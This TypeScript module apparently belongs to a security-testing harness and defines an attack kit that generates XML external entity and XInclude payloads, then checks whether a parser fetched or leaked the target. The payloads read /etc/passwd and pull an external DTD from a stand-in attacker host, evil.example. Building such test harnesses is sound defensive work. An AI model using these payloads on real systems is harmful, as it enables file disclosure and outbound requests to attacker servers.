import { oneByOne, type AttackKit } from './kit.ts';
import { recordsOf, showsMarker } from './seen.ts';

const FILE = 'file:///etc/passwd';
const SITE = 'http://evil.example/x.dtd';

/** A document that makes its reader fetch something, or swells (CWE-611, 776): entities, parameter entities, an external subset, an inclusion. */
export const externalEntity: AttackKit = {
  covers: ['xxe-entity'],
  attempts: ({ benign, requests }) =>
    oneByOne([
      ...requests,
      ...[FILE, '/etc/passwd', SITE].flatMap((place) => [
        `<!DOCTYPE a [<!ENTITY b SYSTEM "${place}">]><a>&b;</a>`,
        `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${place}">]><a>&b;</a>`,
        `<!DOCTYPE a [<!ENTITY b PUBLIC "x" "${place}">]><a>&b;</a>`,
        `<!DOCTYPE a [<!ENTITY % b SYSTEM "${place}"> %b;]><a/>`,
        `<!DOCTYPE a SYSTEM "${place}"><a/>`,
        `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${place}" parse="text"/></a>`,
        ...benign
          .slice(0, 2)
          .map((text) => `<!DOCTYPE a [<!ENTITY b SYSTEM "${place}">]>${text.replace(/>[^<]*</u, '>&b;<')}`),
      ]),
    ]),
  effect(answers) {
    const [reached] = recordsOf(answers, 'read', 'fetch');
    if (reached) return `the document makes its reader get ${reached.name}`;
    return showsMarker(answers) ? 'the marker, which only the inside may hold, is in the answer' : null;
  },
};
